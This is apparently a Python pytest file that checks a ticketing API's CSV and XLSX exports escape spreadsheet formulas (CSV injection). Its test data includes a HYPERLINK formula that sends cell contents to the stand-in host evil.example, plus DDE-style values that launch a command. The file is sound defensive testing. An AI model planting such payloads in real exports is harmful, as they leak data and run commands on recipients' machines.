"""Names that are formulas (CSV injection) come out of every CSV/XLSX export as plain text."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from api.reports.spreadsheet import safe_cell
from tests.pipelines.world import OCTOBER, add_tickets

HOSTILE = {
    "waste_type_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "container_name": "+cmd|' /C calc'!A0",
    "destination_name": "-2+3",
    "employee_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(("given", "shown"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-12.5", "-12.5"), ("-1+2", "'-1+2"), ("@x", "'@x"),
    ("\tX", "'\tX"), ("\rX", "'\rX"), ("Food Waste", "Food Waste"), ("a=b", "a=b"), (7, 7), ("", ""),
])
def test_safe_cell(given, shown):
    assert safe_cell(given) == shown


async def test_ticket_exports_neutralise_formulas(client, factory, owner_sql):
    tenant = await factory.tenant(stores=1)
    (ticket_id,) = await add_tickets(tenant, OCTOBER[:1])
    sets = ", ".join(f"{column} = %s" for column in HOSTILE)
    owner_sql(f"update tickets set {sets} where id = %s", (*HOSTILE.values(), ticket_id))
    owner_sql("update stores set name = %s where id = %s", ("=1+2", tenant.stores[0].id))
    params = {"start_date": "2026-10-01", "end_date": "2026-10-31", "status": "completed"}

    r = await client.get("/api/tickets/export/csv", params=params, headers=tenant.headers())
    assert r.status_code == 200, r.text
    cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
    for value in [*HOSTILE.values(), "=1+2"]:
        if value == "-2+3" or value.startswith(("=", "+", "@")):
            assert value not in cells and "'" + value in cells, value

    r = await client.get("/api/tickets/export/xlsx", params=params, headers=tenant.headers())
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    values = [c.value for row in ws.iter_rows() for c in row]
    types = {c.data_type for row in ws.iter_rows() for c in row}
    assert "f" not in types, "no cell of the workbook is a formula"
    assert "'" + HOSTILE["waste_type_name"] in values and "'=1+2" in values
